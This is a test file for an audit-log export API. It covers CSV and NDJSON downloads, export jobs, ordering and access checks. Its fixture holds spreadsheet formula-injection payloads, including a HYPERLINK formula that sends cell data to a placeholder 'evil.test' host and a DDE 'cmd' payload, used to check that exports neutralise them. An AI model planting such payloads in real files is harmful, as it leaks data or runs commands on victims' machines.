import { existsSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { randomUUID } from "node:crypto";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { db, sql } from "@/db/client";
import { eventSchemas } from "@/db/schema";
import { createKey, createOrg, event, exportSessions } from "@/db/testing/fixtures";
import { POST as ingest } from "@/app/api/v1/events/route";
import { GET as exportCsv } from "@/app/api/v1/orgs/[org]/events/export.csv/route";
import { GET as exportNdjson } from "@/app/api/v1/orgs/[org]/events/export.ndjson/route";
import { GET as listExports, POST as postExport } from "@/app/api/v1/orgs/[org]/exports/route";
import { GET as getExport } from "@/app/api/v1/orgs/[org]/exports/[id]/route";
import { GET as downloadRoute } from "@/app/api/v1/orgs/[org]/exports/[id]/download/route";
import { GET as estimateRoute } from "@/app/api/v1/orgs/[org]/exports/estimate/route";
import { resolveOrgScope } from "@/lib/access/scope";
import { env } from "@/lib/env";
import { BASE_CSV_COLUMNS } from "./format";
import { runExportJob } from "./jobs";
import { streamExport } from "./stream";

type Route = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;

function call(route: Route, secret: string, url: string, params: Record<string, string>, init: RequestInit = {}) {
  return route(new Request(`http://localhost${url}`, { ...init, headers: { authorization: `Bearer ${secret}`, ...init.headers } }), { params: Promise.resolve(params) });
}

async function ingestEvents(secret: string, events: Record<string, unknown>[]) {
  for (let i = 0; i < events.length; i += 1000) {
    const response = await ingest(
      new Request("http://localhost/api/v1/events", { method: "POST", headers: { authorization: `Bearer ${secret}`, "content-type": "application/json" }, body: JSON.stringify({ events: events.slice(i, i + 1000) }) }),
      undefined,
    );
    expect(response.status).toBe(201);
  }
}

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.test/?x="&A1,"Click me")',
  sum: "@SUM(A1:A9)",
  minus: "-2+3",
  plus: "+1 555 0100",
  quotes: 'she said "hi", "bye"',
  newlines: "line one\nline two\r\nline three",
  commas: "a,b,,c",
  emoji: "🦄 👩‍💻 ünïcödé 漢字",
  long: "é".repeat(250) + "x".repeat(250),
  tab: "\tindented",
  formulaNewline: "=1+1\nnot a formula",
};

/** What each cell must read back as, computed from the database row on its own terms. */
const neutral = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

type DbRow = {
  id: string;
  occurred_at: Date;
  received_at: Date;
  action: string;
  actor_type: string;
  actor_id: string;
  actor_name: string | null;
  targets: { type: string; id: string; name?: string }[];
  ip: string | null;
  user_agent: string | null;
  metadata: Record<string, string | number | boolean>;
};

/** The organization's own events as the database holds them, newest first (an export's default order) or oldest first. */
async function dbRows(organizationId: string, order: "asc" | "desc" = "desc"): Promise<DbRow[]> {
  const rows = await sql()<DbRow[]>`select id, occurred_at, received_at, action, actor_type, actor_id, actor_name, targets, host(ip) as ip, user_agent, metadata
    from audit_events where organization_id = ${organizationId} and action not like 'orgtrail.%' order by occurred_at, id`;
  return order === "asc" ? rows : rows.reverse();
}

function expectedCells(row: DbRow, columns: string[]): string[] {
  return [
    row.id,
    row.occurred_at.toISOString(),
    row.received_at.toISOString(),
    row.action,
    row.actor_type,
    row.actor_id,
    row.actor_name ?? "",
    row.targets.map((t) => t.type).join("; "),
    row.targets.map((t) => t.id).join("; "),
    row.targets.map((t) => t.name ?? "").join("; "),
    row.ip ?? "",
    row.user_agent ?? "",
    JSON.stringify(row.metadata),
    ...columns.map((key) => (row.metadata[key] === undefined ? "" : String(row.metadata[key]))),
  ].map(neutral);
}

/** Checks the UTF-8 byte order mark on the raw bytes (Response.text() would drop it), then parses the rest. */
function parseCsv(bytes: Uint8Array): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const parsed = Papa.parse<string[]>(new TextDecoder("utf-8", { fatal: true }).decode(bytes.subarray(3)), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const bytesOf = async (response: Response) => new Uint8Array(await response.arrayBuffer());

async function appEvents(organizationId: string, action: string) {
  return sql()<{ actor_type: string; actor_id: string; metadata: Record<string, unknown> }[]>`
    select actor_type, actor_id, metadata from audit_events where organization_id = ${organizationId} and action = ${action} order by seq`;
}

async function hostileOrg() {
  const org = await createOrg("exp");
  const { secret } = await createKey(org.id, ["events:write", "events:read", "exports:write"]);
  const action = `test.export_${randomUUID().slice(0, 8)}`;
  // A schema marking metadata columns, one of them clashing with the base `ip` column.
  await db().insert(eventSchemas).values({ action, version: 1, display: { columns: ["hyperlink", "ip", "minus"] } });
  const base = Date.now() - 60_000;
  await ingestEvents(secret, [
    ...Object.entries(HOSTILE).map(([key, value], i) =>
      event({
        action,
        occurred_at: new Date(base + i * 1000).toISOString(),
        actor: { type: "user", id: key === "sum" ? value : `u_${i}`, name: value },
        targets: [
          { type: "document", id: `doc_${i}`, name: value },
          { type: "folder", id: "-f" },
        ],
        context: { location: i % 2 ? "2001:db8::7" : "203.0.113.7", user_agent: value.slice(0, 2000) },
        metadata: { [key]: value, ip: "=cmd|' /C calc'!A0", minus: -5, flag: true },
      }),
    ),
    event({ occurred_at: new Date(base - 1000).toISOString(), context: undefined, targets: [], metadata: {} }),
  ]);
  return { org, secret, action, count: Object.keys(HOSTILE).length + 1 };
}

describe("direct export downloads", () => {
  it("round-trips every value of hostile events through papaparse, with BOM, header and schema columns", async () => {
    const { org, secret } = await hostileOrg();
    const response = await call(exportCsv, secret, `/api/v1/orgs/${org.slug}/events/export.csv`, { org: org.slug });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const today = new Date().toISOString().slice(0, 10);
    const rows = await dbRows(org.id);
    const firstDay = rows.at(-1)!.occurred_at.toISOString().slice(0, 10);
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${org.slug}-audit-log-${firstDay}-to-${today}.csv"`);
    const [header, ...cells] = parseCsv(await bytesOf(response));
    expect(header).toEqual([...BASE_CSV_COLUMNS, "hyperlink", "metadata.ip", "minus"]);
    expect(cells).toHaveLength(rows.length);
    cells.forEach((line, i) => expect(line).toEqual(expectedCells(rows[i]!, ["hyperlink", "ip", "minus"])));
    expect(cells.some((line) => line[6] === `'${HOSTILE.hyperlink}`)).toBe(true);
    expect(cells.some((line) => line[6] === HOSTILE.long && HOSTILE.long.length === 500)).toBe(true);

    const [exported] = await appEvents(org.id, "orgtrail.audit_log.exported");
    expect(exported).toMatchObject({ actor_type: "api_key", metadata: { format: "csv", rows: rows.length, delivery: "download", q: "" } });
  });

  it("applies the search filters (q, from, to) and names the file after the range", async () => {
    const { org, secret, action } = await hostileOrg();
    const rows = await dbRows(org.id, "asc");
    const from = rows[2]!.occurred_at.toISOString();
    const to = rows[5]!.occurred_at.toISOString();
    const url = `/api/v1/orgs/${org.slug}/events/export.ndjson?${new URLSearchParams({ q: `action:${action}`, from, to })}`;
    const response = await call(exportNdjson, secret, url, { org: org.slug });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${org.slug}-audit-log-${from.slice(0, 10)}-to-${to.slice(0, 10)}.ndjson"`);
    const lines = (await response.text()).trimEnd().split("\n").map((l) => JSON.parse(l) as { id: string; actor: { name: string }; hash: string });
    expect(lines.map((l) => l.id)).toEqual(rows.slice(2, 5).map((r) => r.id).reverse());
    expect(lines[0]!.actor.name).toBe(rows[4]!.actor_name);
    const [exported] = await appEvents(org.id, "orgtrail.audit_log.exported");
    expect(exported!.metadata).toMatchObject({ format: "ndjson", rows: 3, q: `action:${action}`, from, to });
  });

  it("streams more than one page, and a client that stops reading is still recorded (the event comes before the first byte)", async () => {
    const org = await createOrg("exp");
    const { secret } = await createKey(org.id, ["events:write", "events:read", "exports:write"]);
    await ingestEvents(secret, Array.from({ length: 5_200 }, (_, i) => event({ metadata: { i } })));
    const full = await call(exportCsv, secret, `/api/v1/orgs/${org.slug}/events/export.csv`, { org: org.slug });
    const [, ...cells] = parseCsv(await bytesOf(full));
    expect(cells).toHaveLength(5_200);
    expect(new Set(cells.map((c) => c[0])).size).toBe(5_200);
    expect((await appEvents(org.id, "orgtrail.audit_log.exported"))[0]!.metadata.rows).toBe(5_200);

    const partial = await call(exportCsv, secret, `/api/v1/orgs/${org.slug}/events/export.csv`, { org: org.slug });
    const reader = partial.body!.getReader();
    expect((await reader.read()).done).toBe(false);
    await reader.cancel();
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect((await appEvents(org.id, "orgtrail.audit_log.exported")).map((e) => e.metadata.rows)).toEqual([5_200, 5_201]);
    // The export's own database connection is closed, not left open or running.
    expect(await exportSessions()).toEqual([]);
  });

  it("a client that takes nothing for the stall time loses the download, and the query behind it ends", async () => {
    const org = await createOrg("exp");
    const { secret, principal } = await createKey(org.id, ["events:write", "events:read", "exports:write"]);
    await ingestEvents(secret, Array.from({ length: 5_200 }, (_, i) => event({ metadata: { i, pad: "x".repeat(400) } })));
    const response = await streamExport(await resolveOrgScope(principal, org.id), {}, "csv", new Request("http://localhost/export.csv"), 300);
    const reader = response.body!.getReader();
    expect((await reader.read()).done).toBe(false);
    expect((await reader.read()).done).toBe(false);
    expect(await exportSessions()).toHaveLength(1);
    await new Promise((resolve) => setTimeout(resolve, 600));
    await expect(reader.read()).rejects.toThrow(/took no bytes/);
    await expect.poll(exportSessions, { timeout: 3_000 }).toEqual([]);
    expect(await appEvents(org.id, "orgtrail.audit_log.exported")).toHaveLength(1);
  });

  it("lists rows newest first, as the viewer does, unless order=asc asks for oldest first", async () => {
    const { org, secret } = await hostileOrg();
    const newest = (await dbRows(org.id)).map((r) => r.id);
    const ids = async (route: Route, format: "csv" | "ndjson", order?: string) => {
      // Each download adds its own orgtrail.audit_log.exported event: the query leaves those out.
      const params = new URLSearchParams({ q: "-action:orgtrail.*", ...(order ? { order } : {}) });
      const response = await call(route, secret, `/api/v1/orgs/${org.slug}/events/export.${format}?${params}`, { org: org.slug });
      expect(response.status).toBe(200);
      if (format === "ndjson") return (await response.text()).trimEnd().split("\n").map((l) => (JSON.parse(l) as { id: string }).id);
      return parseCsv(await bytesOf(response)).slice(1).map((cells) => cells[0]!);
    };
    expect(await ids(exportCsv, "csv")).toEqual(newest);
    expect(await ids(exportCsv, "csv", "desc")).toEqual(newest);
    expect(await ids(exportCsv, "csv", "asc")).toEqual([...newest].reverse());
    expect(await ids(exportNdjson, "ndjson")).toEqual(newest);
    expect(await ids(exportNdjson, "ndjson", "asc")).toEqual([...newest].reverse());
    expect((await call(exportCsv, secret, `/api/v1/orgs/${org.slug}/events/export.csv?order=sideways`, { org: org.slug })).status).toBe(400);
  });

  it("writes only the schema columns of the actions the query names; all of them when it names none", async () => {
    const org = await createOrg("exp");
    const { secret } = await createKey(org.id, ["events:write", "events:read", "exports:write"]);
    const family = `test.cols_${randomUUID().slice(0, 8)}`;
    const [invoice, signIn] = [`${family}.invoice_paid`, `${family}.signed_in`];
    await db().insert(eventSchemas).values([
      { action: invoice, version: 1, display: { columns: ["amount_cents"] } },
      { action: signIn, version: 1, display: { columns: ["method"] } },
    ]);
    await ingestEvents(secret, [event({ action: invoice, metadata: { amount_cents: 1200 } }), event({ action: signIn, metadata: { method: "sso" } })]);
    const header = async (q?: string) => {
      const response = await call(exportCsv, secret, `/api/v1/orgs/${org.slug}/events/export.csv${q ? `?q=${encodeURIComponent(q)}` : ""}`, { org: org.slug });
      expect(response.status).toBe(200);
      return parseCsv(await bytesOf(response))[0]!.slice(BASE_CSV_COLUMNS.length);
    };
    // Without action terms: every column of the organization's actions, Orgtrail's own among them once it has exported.
    expect(await header()).toEqual(expect.arrayContaining(["amount_cents", "method"]));
    expect(await header(`action:${signIn}`)).toEqual(["method"]);
    expect(await header(`action:${signIn} actor:u_1`)).toEqual(["method"]);
    expect(await header(`action:${signIn} action:${invoice}`)).toEqual(["amount_cents", "method"]);
    expect(await header(`action:${family}.*`)).toEqual(["amount_cents", "method"]);
    expect(await header(`action:${family}.sign*`)).toEqual(["method"]);
    // A negated action excludes events; it names no columns.
    expect(await header(`-action:${invoice}`)).toEqual(expect.arrayContaining(["amount_cents", "method"]));
    expect(await header("action:other.thing")).toEqual([]);
  });

  it("403 for a key that may read but not export, 404 for another organization's key, 400 for a bad query", async () => {
    const org = await createOrg("exp");
    const other = await createOrg("exp");
    const reader = await createKey(org.id, ["events:read"]);
    const stranger = await createKey(other.id, ["events:read", "exports:write"]);
    const exporter = await createKey(org.id, ["events:read", "exports:write"]);
    const path = `/api/v1/orgs/${org.slug}/events/export.csv`;
    expect((await call(exportCsv, reader.secret, path, { org: org.slug })).status).toBe(403);
    expect((await call(exportCsv, stranger.secret, path, { org: org.slug })).status).toBe(404);
    const bad = await call(exportCsv, exporter.secret, `${path}?q=${encodeURIComponent('action:"open')}`, { org: org.slug });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe("invalid_query");
    expect((await call(exportCsv, exporter.secret, `${path}?from=yesterday`, { org: org.slug })).status).toBe(400);
    expect((await call(estimateRoute, reader.secret, `/api/v1/orgs/${org.slug}/exports/estimate`, { org: org.slug })).status).toBe(403);
  });
});

const noopJob = (attempts: number) => ({ id: 0, attempts, heartbeat: async () => {} });

describe("export jobs", () => {
  it("a job killed mid-way is retried from scratch to a correct file, marked ready once, then downloaded with a signed link", async () => {
    const { org, secret, count: hostileCount } = await hostileOrg();
    // Enough rows that the database sends them in many chunks, so the kill comes part way through the file.
    await ingestEvents(secret, Array.from({ length: 3_000 }, (_, i) => event({ occurred_at: new Date(Date.now() - 3_600_000 + i).toISOString(), metadata: { i } })));
    const count = hostileCount + 3_000;
    const created = await call(postExport, secret, `/api/v1/orgs/${org.slug}/exports`, { org: org.slug }, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ format: "csv" }) });
    expect(created.status).toBe(202);
    const { id, state } = (await created.json()) as { id: string; state: string };
    expect(state).toBe("pending");

    const killed = new AbortController();
    await expect(
      runExportJob({ organizationId: org.id, exportId: id }, noopJob(1), { progressIntervalMs: 0, signal: killed.signal, onProgress: () => killed.abort(new Error("worker killed")) }),
    ).rejects.toThrow("worker killed");
    const directory = path.resolve(env().ORGTRAIL_EXPORT_DIR, org.id);
    const midway = (await (await call(getExport, secret, `/api/v1/orgs/${org.slug}/exports/${id}`, { org: org.slug, id })).json()) as Record<string, unknown>;
    expect(midway).toMatchObject({ id, state: "running", rows_total: count, download_url: null });
    expect(midway.rows_done).toBeGreaterThan(0);
    expect(midway.rows_done).toBeLessThan(count);
    expect(existsSync(path.join(directory, `${id}.csv`))).toBe(false);
    expect(readdirSync(directory).filter((f) => f.startsWith(id) && f.endsWith(".tmp"))).toHaveLength(1);

    await runExportJob({ organizationId: org.id, exportId: id }, noopJob(2));
    expect(readdirSync(directory).filter((f) => f.startsWith(id))).toEqual([`${id}.csv`]);
    const status = (await (await call(getExport, secret, `/api/v1/orgs/${org.slug}/exports/${id}`, { org: org.slug, id })).json()) as { state: string; rows_done: number; rows_total: number; download_url: string };
    expect(status).toMatchObject({ state: "ready", rows_done: count, rows_total: count });

    const rows = await dbRows(org.id);
    const [header, ...cells] = parseCsv(readFileSync(path.join(directory, `${id}.csv`)));
    expect(header).toEqual([...BASE_CSV_COLUMNS, "hyperlink", "metadata.ip", "minus"]);
    expect(cells).toEqual(rows.map((row) => expectedCells(row, ["hyperlink", "ip", "minus"])));
    expect(await appEvents(org.id, "orgtrail.audit_log.exported")).toHaveLength(1);

    // Running it again (a duplicate delivery) changes nothing.
    await runExportJob({ organizationId: org.id, exportId: id }, noopJob(3));
    expect(await appEvents(org.id, "orgtrail.audit_log.exported")).toHaveLength(1);

    const link = new URL(status.download_url, "http://localhost");
    const download = await call(downloadRoute, secret, link.pathname + link.search, { org: org.slug, id });
    expect(download.status).toBe(200);
    expect(download.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="${org.slug}-audit-log-\\d{4}-\\d{2}-\\d{2}-to-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(parseCsv(await bytesOf(download))).toHaveLength(count + 1);
    expect((await appEvents(org.id, "orgtrail.audit_log.export_downloaded"))[0]!.metadata).toMatchObject({ export_id: id, format: "csv", rows: count });

    const tampered = new URLSearchParams(link.search);
    tampered.set("expires", String(Number(tampered.get("expires")) + 3600));
    expect((await call(downloadRoute, secret, `${link.pathname}?${tampered}`, { org: org.slug, id })).status).toBe(403);
    const reader = await createKey(org.id, ["events:read"]);
    expect((await call(downloadRoute, reader.secret, link.pathname + link.search, { org: org.slug, id })).status).toBe(403);

    const list = (await (await call(listExports, secret, `/api/v1/orgs/${org.slug}/exports`, { org: org.slug })).json()) as { data: { id: string; state: string }[] };
    expect(list.data[0]).toMatchObject({ id, state: "ready" });
  });

  it("a job writes its rows in the order it was asked for: newest first by default, oldest first with order asc", async () => {
    const { org, secret } = await hostileOrg();
    const newest = (await dbRows(org.id)).map((r) => r.id);
    const runJob = async (body: Record<string, unknown>) => {
      const created = await call(postExport, secret, `/api/v1/orgs/${org.slug}/exports`, { org: org.slug }, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
      expect(created.status).toBe(202);
      const { id } = (await created.json()) as { id: string };
      await runExportJob({ organizationId: org.id, exportId: id }, noopJob(1));
      const file = readFileSync(path.resolve(env().ORGTRAIL_EXPORT_DIR, org.id, `${id}.ndjson`), "utf8");
      return file.trimEnd().split("\n").map((l) => (JSON.parse(l) as { id: string }).id);
    };
    // Each finished job adds its own orgtrail.audit_log.exported event: the query leaves those out.
    const q = "-action:orgtrail.*";
    expect(await runJob({ format: "ndjson", q })).toEqual(newest);
    expect(await runJob({ format: "ndjson", q, order: "asc" })).toEqual([...newest].reverse());
  });

  it("an export id of another organization is a 404, as is one that does not exist", async () => {
    const { org, secret } = await hostileOrg();
    const other = await createOrg("exp");
    const otherKey = await createKey(other.id, ["events:read", "exports:write"]);
    const created = await call(postExport, secret, `/api/v1/orgs/${org.slug}/exports`, { org: org.slug }, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ format: "ndjson" }) });
    const { id } = (await created.json()) as { id: string };
    expect((await call(getExport, otherKey.secret, `/api/v1/orgs/${other.slug}/exports/${id}`, { org: other.slug, id })).status).toBe(404);
    expect((await call(getExport, otherKey.secret, `/api/v1/orgs/${org.slug}/exports/${id}`, { org: org.slug, id })).status).toBe(404);
    expect((await call(getExport, secret, `/api/v1/orgs/${org.slug}/exports/not-a-uuid`, { org: org.slug, id: "not-a-uuid" })).status).toBe(404);
    expect((await call(getExport, secret, `/api/v1/orgs/${org.slug}/exports/${randomUUID()}`, { org: org.slug, id: randomUUID() })).status).toBe(404);
  });

  it("refuses a bad body with the error JSON and writes nothing", async () => {
    const org = await createOrg("exp");
    const { secret } = await createKey(org.id, ["events:read", "exports:write"]);
    const post = (body: string) => call(postExport, secret, `/api/v1/orgs/${org.slug}/exports`, { org: org.slug }, { method: "POST", headers: { "content-type": "application/json" }, body });
    const cases: [string, number, string][] = [
      ["{", 400, "invalid_json"],
      [JSON.stringify({ format: "xlsx" }), 422, "validation_failed"],
      [JSON.stringify({ from: "last week" }), 422, "validation_failed"],
      [JSON.stringify({ extra: 1 }), 422, "validation_failed"],
      [JSON.stringify({ order: "newest" }), 422, "validation_failed"],
      [JSON.stringify({ q: "nope:1" }), 400, "invalid_query"],
    ];
    for (const [body, status, code] of cases) {
      const response = await post(body);
      expect(response.status, body).toBe(status);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe(code);
    }
    const [{ n }] = await sql()<{ n: string }[]>`select count(*) as n from exports where organization_id = ${org.id}`;
    expect(Number(n)).toBe(0);
  });
});
